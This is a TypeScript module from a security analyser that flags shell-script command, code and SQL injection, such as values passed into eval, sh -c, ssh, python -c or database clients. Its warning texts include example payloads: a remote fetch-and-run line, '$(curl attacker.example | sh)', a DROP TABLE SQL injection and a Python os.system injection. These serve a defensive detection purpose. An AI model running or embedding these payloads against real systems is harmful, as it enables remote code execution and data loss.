import type { Command, Word } from 'unbash';
import { type Expansion, expansionsIn, isCommand, literalOf, programOf } from '../../changed-code/shell/words.ts';
import { type ValueOrigin, type Origins, originsOf } from '../../changed-code/shell/origins.ts';
import type { ShellScript } from '../../changed-code/shell/parse-shell.ts';
import { brief } from '../scenario.ts';
import type { SecurityRule } from '../vocabulary.ts';
import type { ShellHazard } from './shell-hazard.ts';

/** A word that a program reads as code: a value in it is no value any more. */
interface CodeWord {
  readonly rule: SecurityRule;
  /** Who reads it: `a shell`, `Python`. */
  readonly reader: string;
  readonly words: readonly { readonly parts?: Word['parts']; readonly text: string }[];
}

const SHELL = /^(?:ba|z|da|k|a)?sh$/;
const LANGUAGES: Readonly<Record<string, { readonly flag: RegExp; readonly reader: string }>> = {
  python: { flag: /^-\w{0,3}c$/, reader: 'Python' },
  python2: { flag: /^-\w{0,3}c$/, reader: 'Python' },
  python3: { flag: /^-\w{0,3}c$/, reader: 'Python' },
  node: { flag: /^(?:-e|--eval|-p|--print|-pe)$/, reader: 'Node' },
  ruby: { flag: /^-\w{0,3}e$/, reader: 'Ruby' },
  perl: { flag: /^-\w{0,5}e$/, reader: 'Perl' },
  php: { flag: /^-r$/, reader: 'PHP' },
};
const DATABASES: Readonly<Record<string, RegExp>> = {
  psql: /^(?:-\w{0,5}c|--command)$/,
  mysql: /^(?:-\w{0,5}e|--execute)$/,
  mariadb: /^(?:-\w{0,5}e|--execute)$/,
  mongosh: /^--eval$/,
  mongo: /^--eval$/,
  sqlcmd: /^-[qQ]$/,
  'clickhouse-client': /^(?:-q|--query)$/,
  duckdb: /^-c$/,
};

/** Values that a second program reads as a part of its own code: `eval`, `sh -c`, `ssh`, `python -c`, a statement of a database. */
export function secondReaders(script: ShellScript): ShellHazard[] {
  const origins = originsOf(script);
  return script.nodes.flatMap((node) =>
    isCommand(node) ? codeWords(node, pipedInto(node, script)).flatMap((one) => hazardOf(one, origins)) : [],
  );
}

/** What `echo` and kin print into a command: `echo "… $x" | sh`. */
function pipedInto(command: Command, script: ShellScript): readonly Word[] {
  const pipeline = script.parents.get(command);
  if (pipeline?.type !== 'Pipeline') return [];
  const before = pipeline.commands[pipeline.commands.indexOf(command) - 1];
  const program = before !== undefined && isCommand(before) ? programOf(before) : null;
  return program !== null && /^(?:echo|printf)$/.test(program.name) ? program.args : [];
}

function codeWords(command: Command, piped: readonly Word[]): CodeWord[] {
  const program = programOf(command);
  if (program === null) return [];
  const { name, args } = program;
  const shell = (words: CodeWord['words'], reader = 'a shell'): CodeWord[] => [
    { rule: 'command-injection', reader, words },
  ];
  if (name === 'eval') return literalOf(args[0]) === 'set' ? [] : shell(args.filter(isCodeForEval), '`eval`');
  const behind = (flag: RegExp): readonly Word[] => {
    const at = args.findIndex(({ text }) => flag.test(text.split('=', 1).join()));
    return at === -1 ? [] : args[at]?.text.includes('=') === true ? args.slice(at, at + 1) : args.slice(at + 1, at + 2);
  };
  const input = [...hereOf(command), ...piped];
  if (name === 'trap') return shell(args.slice(0, 1), 'the shell, when the trap goes off,');
  if (name === 'crontab' || name === 'at' || name === 'batch') return shell(input, 'a shell');
  if (SHELL.test(name)) return [...shell(behind(/^-\w{0,5}c$/)), ...shell(input)];
  if (name === 'su' || name === 'runuser') return shell(behind(/^(?:-c|--command)$/));
  if (name === 'ssh') {
    const remote = remoteWords(args);
    // What another program than a shell reads there is not the shell's to read.
    const isRead = remote.length === 0 || remote.some(({ text }) => /\b(?:ba|da|z|k|fi)?sh\b/.test(text));
    return shell([...remote, ...(isRead ? input : [])], 'the shell of the other machine');
  }
  const remote = behind(/^--command$/);
  if (/^(?:gcloud|vagrant|az)$/.test(name)) return shell([...remote, ...(name === 'vagrant' ? behind(/^-c$/) : [])]);
  if (name === 'xargs' || name === 'find' || name === 'parallel' || name === 'watch') return shell(insideShell(args));
  if (/^(?:docker|podman|kubectl|nerdctl)$/.test(name) || name === 'chroot') return shell(insideShell(args));
  const language = LANGUAGES[name];
  if (language !== undefined)
    return [{ rule: 'code-injection', reader: language.reader, words: [...behind(language.flag), ...input] }];
  const flag = DATABASES[name];
  if (flag !== undefined)
    return [{ rule: 'sql-injection', reader: 'the database', words: [...behind(flag), ...input] }];
  if (name === 'sqlite3')
    return [{ rule: 'sql-injection', reader: 'the database', words: [...args.slice(1), ...input] }];
  if (/^[gmn]?awk$/.test(name))
    return [{ rule: 'code-injection', reader: 'awk', words: args.filter((one) => /[{}]/.test(one.text)).slice(0, 1) }];
  return [];
}

/** `eval "$(tool hook)"` runs what a tool of the machine prints for it; `name=\$value` only writes a variable. */
function isCodeForEval(word: Word): boolean {
  const expansions = expansionsIn(word);
  const [only] = expansions;
  if (expansions.length === 1 && only?.part.type === 'CommandExpansion') return false;
  return !/^["']?(?:export )?\$\{?\w+\}?=(?:\\["$]|\\?['"]?\\\$|\(?\\?['"]?$)/.test(word.text);
}

/** What `ssh` hands to the other side: all behind the host. */
function remoteWords(args: readonly Word[]): Word[] {
  let at = 0;
  while (args[at]?.text.startsWith('-') === true)
    at += /^-\w*[bcDEeFIiJLlmOopQRSWw]$/.test(args[at]?.text ?? '') ? 2 : 1;
  return args.slice(at + 1);
}

/** The program of `sh -c` among the arguments of something that starts it. */
function insideShell(args: readonly Word[]): Word[] {
  const at = args.findIndex(
    ({ value }, index) => /^-\w{0,5}c$/.test(value) && SHELL.test(args[index - 1]?.value.replace(/^.*\//, '') ?? ''),
  );
  return at === -1 ? [] : args.slice(at + 1, at + 2);
}

/** The text of a here document in which variables are put. */
function hereOf(command: Command): { readonly parts?: Word['parts']; readonly text: string }[] {
  return command.redirects.flatMap((redirect): { readonly parts?: Word['parts']; readonly text: string }[] => {
    if (redirect.type === 'HereString' && redirect.target !== undefined) return [redirect.target];
    if (redirect.type !== 'HereDoc' || redirect.delimiter?.quoted === true) return [];
    return [{ parts: redirect.body.parts, text: redirect.body.text }];
  });
}

function hazardOf({ rule, reader, words }: CodeWord, origins: Origins): ShellHazard[] {
  const weight = (one: { readonly expansion: Expansion; readonly origin: ValueOrigin }): number =>
    origins.isOfService(one.expansion) ? 2 : Number(one.origin === 'outside');
  const found = words.flatMap((word) => {
    const holes = expansionsIn(word).map((expansion) => ({ word, expansion, origin: origins.ofExpansion(expansion) }));
    // A download that is run is told as one.
    return holes.filter(({ origin, expansion }) => isForeign(origin) && !isNumber(expansion) && !isDownload(expansion));
  });
  const [first] = found.toSorted((a, b) => weight(b) - weight(a));
  if (first === undefined) return [];
  const { expansion, origin, word } = first;
  const value = expansion.part.text;
  return [
    {
      rule,
      identity: `${reader} ${value} ${word.text.replace(/\s+/g, '')}`,
      start: expansion.part.pos,
      title: `\`${brief(value)}\` is read as code by ${reader}`,
      explanation: `The value is put into the text of a program, so that quotes, \`;\` or \`$(…)\` in it count. ${remedy(rule, reader)}`,
      failureScenario: {
        description: `${origin === 'outside' ? 'What is read there holds' : 'Somebody calls the script with'} \`${payload(rule)}\`: ${reader} runs it, with the rights of this script.`,
      },
      // All else is folded: it comes from the machine, its tools and its user (docs/precision.md).
      ...(origins.isOfService(expansion)
        ? { severity: 'warning', confidence: 700 }
        : { severity: 'suggestion', confidence: 200 }),
    },
  ];
}

const isForeign = (origin: ValueOrigin): boolean => origin === 'argument' || origin === 'outside';

const isDownload = ({ part }: Expansion): boolean =>
  part.type === 'CommandExpansion' && /^(?:\$\(|`)\s{0,9}(?:curl|wget)\b/.test(part.text);

/** `$#`, `${#x}` and arithmetic are numbers. */
function isNumber({ part, name }: Expansion): boolean {
  return part.type === 'ArithmeticExpansion' || name === '#';
}

function remedy(rule: SecurityRule, reader: string): string {
  if (rule === 'sql-injection')
    return "Give it as a variable of the client (`psql -v name=value`, `:'name'`), or check it against a pattern first.";
  if (rule === 'code-injection')
    return reader === 'awk'
      ? 'Hand it over with `-v name=value`.'
      : 'Hand it over as an argument and read it there (`sys.argv`, `process.argv`).';
  return reader === '`eval`'
    ? 'Build an array and run `"${command[@]}"`.'
    : 'Hand it over as an argument (`sh -c \'… "$1"\' sh "$value"`), or quote it with `printf %q`.';
}

function payload(rule: SecurityRule): string {
  return rule === 'sql-injection'
    ? "'; DROP TABLE users; --"
    : rule === 'code-injection'
      ? "'''+__import__('os').system('id')+'''"
      : '$(curl attacker.example | sh)';
}

/** `find … -exec sh -c 'gzip {}' \;`: the name of a file stands in the text of the program. `$cmd` that was read is run as it is. */
export function namesAsCode(script: ShellScript): ShellHazard[] {
  const origins = originsOf(script);
  return script.nodes.filter(isCommand).flatMap((command): ShellHazard[] => {
    const [first] = command.name === undefined ? [] : expansionsIn(command.name);
    if (
      first !== undefined &&
      first.name !== null &&
      command.name?.text === first.part.text &&
      origins.ofExpansion(first) === 'outside'
    )
      return [asCode(command, first.part.text, 'runs whatever was read')];
    const program = programOf(command);
    if (program === null || !/^(?:find|xargs|parallel|fd)$/.test(program.name)) return [];
    const at = program.args.findIndex(({ text }) => text.startsWith('-I'));
    const token = at === -1 ? '{}' : ((program.args[at]?.value.slice(2) || program.args[at + 1]?.value) ?? '{}');
    const inside = insideShell(program.args).find(({ value }) => token !== '' && value.includes(token));
    return inside === undefined ? [] : [asCode(command, token, 'puts names into the text of a program')];
  });
}

function asCode(command: Command, value: string, what: string): ShellHazard {
  return {
    rule: 'command-injection',
    identity: `${what} ${command.args.map(({ text }) => text).join(' ')}`,
    start: command.pos,
    title: `\`${brief(value)}\` is read as code by a shell`,
    explanation: `The command ${what}, so that quotes, \`;\` or \`$(…)\` in it count. Hand it over as an argument: \`sh -c '… "$1"' sh {}\`, or a fixed program with the value behind \`--\`.`,
    failureScenario: {
      description:
        'Somebody makes a file, or a line, with the name `$(curl attacker.example | sh)`: the shell runs it, with the rights of this script.',
    },
    severity: 'suggestion',
    confidence: 200,
  };
}
